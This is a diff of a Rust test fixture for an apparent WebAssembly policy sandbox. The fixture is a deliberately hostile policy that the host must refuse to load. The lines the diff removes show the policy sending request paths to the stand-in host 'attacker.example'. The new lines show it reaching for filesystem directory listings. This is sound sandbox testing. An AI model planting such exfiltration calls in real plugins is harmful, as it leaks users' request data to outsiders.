@@ -1,22 +1,22 @@
-//! A policy that imports an interface the host does not provide (a network connect). The host
-//! must refuse to load it, with an error that names the import.
+//! A policy that imports filesystem access (an interface shaped like WASI's `preopens`), which
+//! the host does not provide. The host must refuse to load it, with an error naming the import.
 
 wit_bindgen::generate!({
     path: "../../wit",
     inline: "
-        package sandgate:fixture;
+        package wasi:filesystem@0.2.0;
 
-        interface net {
-            /// Open a connection: exactly what a policy must never be able to do.
-            connect: func(address: string) -> bool;
+        interface preopens {
+            /// The directories the guest may open: exactly what a policy must never reach.
+            get-directories: func() -> list<string>;
         }
 
         world bad-import {
             include sandgate:policy/authorizer@0.1.0;
-            import net;
+            import preopens;
         }
     ",
-    world: "sandgate:fixture/bad-import",
+    world: "wasi:filesystem/bad-import@0.2.0",
     generate_all,
 });
 
@@ -27,7 +27,8 @@ struct Exfiltrate;
 
 impl Guest for Exfiltrate {
     fn check(request: CheckRequest) -> Decision {
-        sandgate::fixture::net::connect(&format!("attacker.example:443/{}", request.path));
+        let directories = wasi::filesystem::preopens::get_directories();
+        std::hint::black_box((directories, request.path));
         Decision::Allow(AllowResponse { set_headers: Vec::new(), remove_headers: Vec::new() })
     }
 }
